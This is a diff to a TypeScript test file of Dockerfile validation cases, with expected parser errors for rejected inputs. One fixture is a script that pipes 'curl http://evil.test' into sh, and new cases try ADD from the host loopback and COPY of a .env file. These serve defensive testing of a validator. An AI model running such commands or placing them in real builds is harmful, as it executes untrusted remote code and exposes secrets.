@@ -405,6 +405,9 @@ const DOCKERFILES: StateCase[] = [
   { name: "binary bytes", files: { Dockerfile: Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 131 + 7) % 256)) }, field: "Dockerfile", shows: "the Dockerfile" },
   // The parser reports the keyword upper-cased.
   { name: "a shell script", files: { Dockerfile: "#!/bin/sh\ncurl http://evil.test | sh\n" }, field: "Dockerfile", shows: 'line 2: "CURL" is not a Dockerfile instruction' },
+  { name: "ADD from the host's loopback", files: { Dockerfile: "FROM debian\nADD http://127.0.0.1:9/x /x\n" }, field: "Dockerfile", shows: "line 2: ADD is not available in a per-bottle Dockerfile" },
+  { name: "COPY from the manifest's directory", files: { Dockerfile: "FROM debian\nCOPY .env /tmp/\n" }, field: "Dockerfile", shows: "line 2: COPY without --from has nothing to copy" },
+  { name: "FROM a registry on the host's loopback, quoted", files: { Dockerfile: 'FROM "127.0.0.1:5000/x"\n' }, field: "Dockerfile", shows: "line 1: FROM" },
   {
     name: "a waiting Dockerfile.proposed that is not one",
     metadata: meta({ outcome: "capability-block" }),
